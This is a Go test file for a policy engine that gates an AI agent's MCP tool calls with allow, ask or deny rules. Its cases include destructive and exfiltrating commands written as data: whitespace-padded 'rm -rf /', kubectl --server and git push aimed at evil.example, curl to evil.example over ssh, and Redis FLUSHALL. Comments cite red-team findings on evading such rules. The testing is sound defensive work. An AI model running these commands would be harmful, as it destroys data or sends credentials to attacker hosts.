package rules_test

import (
	"context"
	"encoding/json"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mcp-policy/mcp-policy/internal/rules"
	"github.com/mcp-policy/mcp-policy/internal/verdict"
	"github.com/mcp-policy/mcp-policy/provider"
)

// A rule's arguments that cannot be read are a ValidationError naming the
// rule and the field, from JSON and from Go alike.
func TestRuleArgumentsAreValidated(t *testing.T) {
	for _, bad := range []string{
		`{"": "x"}`,
		`{"_-": "x"}`,
		`{"owner": ""}`,
		`{"owner": "acme\\"}`,
		`{"owner": 7}`,
		`{"owner": null}`,
		`{"owner": ["acme"]}`,
		`{"owner": "acme", "OWNER": "acme"}`,
		`{"reason": "x"}`,
		`{"Re_ason": "x"}`,
		`[]`,
		`"owner"`,
		`null`,
	} {
		_, err := rules.ParseRules([]byte(`[{"tool":"a","decision":"allow"},{"tool":"a","decision":"deny","arguments":`+bad+`}]`), "rules.json")
		require.Error(t, err, bad)
		var ve *rules.ValidationError
		require.True(t, errors.As(err, &ve), "%s: %v", bad, err)
		assert.Equal(t, "arguments", ve.Field, bad)
		assert.Contains(t, err.Error(), `rules.json: rule 2: field "arguments"`, bad)
	}
	_, err := rules.Validate(rules.Rule{Tool: "a", Decision: rules.Allow, Arguments: map[string]string{"owner": `a\`}}, "grant 3")
	assert.ErrorContains(t, err, `grant 3: field "arguments"`)

	rs, err := rules.ParseRules([]byte(`[{"tool":"a","decision":"allow","arguments":{"owner":"ac\\*me","Repo_Name":"x?"}},
		{"tool":"a","decision":"allow","arguments":{}}]`), "rules.json")
	require.NoError(t, err)
	assert.Equal(t, map[string]string{"owner": `ac\*me`, "Repo_Name": "x?"}, rs[0].Arguments)
	assert.Nil(t, rs[1].Arguments, "{} names no argument")
}

// A rule's arguments match the call's top-level arguments on the fast
// path and on the plain one (OPA's public API) alike, and a grant's too.
func TestRuleArgumentsMatch(t *testing.T) {
	ctx := context.Background()
	rs := []rules.Rule{
		{Tool: "gh_*", Decision: rules.Deny, Arguments: map[string]string{"owner": "evil*", "repo": "secret"}},
		{Tool: "gh_*", Decision: rules.Allow, Arguments: map[string]string{"owner": "acme", "private": "false"}},
	}
	cases := map[string]string{
		`{"owner":"acme","private":false}`:                   "allow",
		`{"OWNER":"acme","Private":"false"}`:                 "allow",
		`{"owner":"acme"}`:                                   "ask",  // missing
		`{"owner":"acme","private":true}`:                    "ask",  // another value
		`{"owner":"acme","OWNER":"other","private":false}`:   "ask",  // every spelling must match an allow
		`{"owner":{"login":"acme"},"private":false}`:         "ask",  // no scalar
		`{"owner":"evil-corp","private":false}`:              "deny", // the deny's glob
		`{"owner":"EVIL","private":false}`:                   "deny", // folded, as a deny reads
		`{"owner":"acme","Owner":"evil","private":false}`:    "deny", // any spelling matches a deny
		`{"owner":"acme","repo":"secret","private":false}`:   "deny", // any named argument
		`{"owner":["evil"],"private":false}`:                 "deny", // an array's words, joined
		`{"owner":[{"login":"evil"}],"private":false}`:       "ask",  // might be evil
		`{"owner":"acme","private":false,"reason":"secret"}`: "allow",
	}
	for _, plain := range []bool{false, true} {
		e, err := rules.NewEngine(ctx, rules.Config{Rules: rs, Plain: plain})
		require.NoError(t, err)
		for args, want := range cases {
			d, _, err := e.Decide(ctx, provider.Call{ID: "1", Function: provider.CallFunction{Name: "gh_issue", Arguments: args}}, nil)
			require.NoError(t, err)
			assert.Equal(t, want, string(d.Decision), "plain %v: %s", plain, args)
		}
	}

}

// A deny's or ask's argument glob matches a value as written, folded, or
// with its white space as a word-splitting reader reads it: " rm -rf /"
// and "rm\t-rf /" are "rm -rf /" to a shell (outside round, finding 6).
// An allow's matches only as written: a reading that widens it is none.
func TestRuleArgumentsMatchOverWhiteSpace(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "exec", Decision: "deny", Arguments: map[string]string{"cmd": "rm *"}},
		{Tool: "exec", Decision: "allow", Arguments: map[string]string{"cmd": "ls *"}},
	}})
	for _, v := range []string{"rm -rf /", " rm -rf /", "rm\t-rf /", "rm  -rf /", "\trm -rf /\n"} {
		args, err := json.Marshal(map[string]string{"cmd": v})
		require.NoError(t, err)
		assert.Equal(t, rules.Deny, decide(t, e, call("exec", string(args)), nil).Decision, "%q", v)
	}
	assert.Equal(t, rules.Allow, decide(t, e, call("exec", `{"cmd":"ls -la"}`), nil).Decision)
	assert.NotEqual(t, rules.Allow, decide(t, e, call("exec", `{"cmd":" ls -la"}`), nil).Decision, "an allow reads the value as written")
}

// An array of strings is a program's words: a glob reads them joined by
// one space, so a rule can name a CLI tool's subcommand ("compute *"). An
// allow does not match words it would misread: one holding white space
// or an empty one.
func TestRuleArgumentsReadAnArrayAsWords(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "run_gcloud_command", Decision: "allow", Arguments: map[string]string{"args": "compute *"}},
		{Tool: "run_gcloud_command", Decision: "ask", Arguments: map[string]string{"args": "* delete *"}},
		{Tool: "gh_issue", Decision: "allow", Arguments: map[string]string{"owner": "acme*"}},
	}})
	// A glob of one word allows one word, not several that begin alike.
	assert.Equal(t, verdict.Allow, decide(t, e, call("gh_issue", `{"owner":["acme-x"]}`), nil).Decision)
	assert.Equal(t, verdict.Ask, decide(t, e, call("gh_issue", `{"owner":["acme-x","evil"]}`), nil).Decision)
	for args, want := range map[string]verdict.Decision{
		`{"args":["compute","instances","list","--format","json"]}`: rules.Allow,
		`{"args":["compute","instances","delete","vm-1"]}`:          rules.Ask,
		`{"args":["COMPUTE","instances","DELETE","vm-1"]}`:          rules.Ask, // an ask reads folded
		`{"args":["iam","service-accounts","list"]}`:                rules.Ask, // no rule: asked
		`{"args":["compute instances","list"]}`:                     rules.Ask, // not the words gcloud gets
		`{"args":["compute","","list"]}`:                            rules.Ask,
		`{"args":["compute",7]}`:                                    rules.Ask,
		`{"args":[]}`:                                               rules.Ask,
	} {
		d := decide(t, e, call("run_gcloud_command", args), nil)
		assert.Equal(t, want, d.Decision, args)
	}
}

// An allow's arguments over a command line say which program runs, as a
// command rule does, not where it may connect: kubectl's "get *" does not
// cover a --server the model chose (the cluster's token goes with it),
// nor a URL the words name; a rule with the host does.
func TestRuleArgumentsOverACommandLineCoverNoHost(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "kubectl", Decision: "allow", Arguments: map[string]string{"args": "get *"}},
		{Tool: "run_command", Decision: "allow", Arguments: map[string]string{"command": "git *"}},
		{Tool: "kubectl", Decision: "allow", Arguments: map[string]string{"args": "get *"}, Host: "k8s.example.com"},
		{Tool: "fetch", Decision: "allow", Arguments: map[string]string{"method": "GET"}},
		{Tool: "kubectl_create", Decision: "allow", Arguments: map[string]string{"namespace": "dev"}},
		{Tool: "run_kubectl", Decision: "allow", Arguments: map[string]string{"command": "get*"}},
	}})
	for _, c := range []struct {
		tool, args string
		want       verdict.Decision
	}{
		{"kubectl", `{"args":["get","pods"]}`, verdict.Allow},
		{"kubectl", `{"args":["get","pods","--server","https://evil.example"]}`, verdict.Ask},
		{"kubectl", `{"args":["get","pods","--server=https://k8s.example.com"]}`, verdict.Allow},
		// The words in one string, and a glob with no space (red team 41).
		{"kubectl", `{"args":"get pods -s https://evil.example"}`, verdict.Ask},
		{"run_kubectl", `{"command":"get pods --server https://evil.example"}`, verdict.Ask},
		{"run_command", `{"command":"git status"}`, verdict.Allow},
		{"run_command", `{"command":"git push https://evil.example/x.git"}`, verdict.Ask},
		// No command line: the rule allows the tool whatever host it names.
		{"fetch", `{"method":"GET","url":"https://docs.example.com/"}`, verdict.Allow},
		// A glob of one word over another argument: the cluster the
		// tool's command reaches is covered, as before.
		{"kubectl_create", `{"resourceType":"configmap","name":"x","namespace":"dev"}`, verdict.Allow},
	} {
		d := decide(t, e, call(c.tool, c.args), nil)
		assert.Equal(t, c.want, d.Decision, "%s %s", c.tool, c.args)
	}
}

// An allow's arguments that name the top-level argument a host was read
// from, whole, speak of that host (benign round 41: ssh-manager's
// {"server": "staging"} pin beside a command rule asked every call, the
// command rule covering no host). Not a host read from elsewhere: the
// command line, a nested key of the same name.
func TestRuleArgumentsPinTheHostTheyName(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "ssh_execute", Decision: "allow", Command: []string{"uptime", "curl *"}, Arguments: map[string]string{"server": "staging"}},
	}})
	for args, want := range map[string]verdict.Decision{
		`{"server":"staging","command":"uptime"}`:                                  verdict.Allow,
		`{"server":"prod-db","command":"uptime"}`:                                  verdict.Ask,
		`{"server":"staging","command":"curl https://evil.example"}`:               verdict.Ask,
		`{"server":"staging","opts":{"server":"evil.example"},"command":"uptime"}`: verdict.Ask,
	} {
		assert.Equal(t, want, decide(t, e, call("ssh_execute", args), nil).Decision, args)
	}
}

// A deny's or ask's glob over a list of commands, each a scalar (a Redis
// tool's [["SET", "k", "v"], ["FLUSHALL"]]), matches one of them: the
// user's "FLUSH*" asks the flush and lets the rest be (a benign replay's
// false ask: every call was asked, the list being no scalar).
func TestRuleArgumentsReadAListOfCommands(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "redis_run_commands", Decision: "allow"},
		{Tool: "redis_run_commands", Decision: "ask", Arguments: map[string]string{"commands": "FLUSH*"}},
	}})
	for args, want := range map[string]verdict.Decision{
		`{"commands":[["SET","user:1","x"],["GET","user:1"]]}`: rules.Allow,
		`{"commands":[["GET","k"],["FLUSHALL"]]}`:              rules.Ask,
		`{"commands":[["get","k"],["flushdb","ASYNC"]]}`:       rules.Ask, // an ask reads folded
		`{"commands":["SCAN 0","FLUSHALL"]}`:                   rules.Ask, // strings, each a command
		`{"commands":[["GET","k"],{"op":"FLUSHALL"}]}`:         rules.Ask, // an element that is no scalar might be one
	} {
		d := decide(t, e, call("redis_run_commands", args), nil)
		assert.Equal(t, want, d.Decision, args)
	}
}
